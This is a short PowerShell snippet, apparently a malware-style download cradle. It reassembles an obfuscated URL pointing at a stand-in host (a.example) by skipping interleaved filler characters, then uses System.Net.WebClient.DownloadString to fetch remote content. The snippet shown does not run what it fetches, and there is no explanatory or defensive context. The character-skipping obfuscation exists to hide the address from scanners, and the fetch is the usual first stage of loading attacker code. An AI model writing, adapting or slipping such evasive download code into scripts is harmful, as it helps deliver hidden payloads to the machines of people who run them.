$s='hXtXtXpX:X/X/XaX.XeXxXaXmXpXlXeX/Xx';$o='';for($i=0;$i -lt $s.Length;$i+=2){$o+=$s[$i]}
$wc = New-Object System.Net.WebClient
$wc.DownloadString($o)
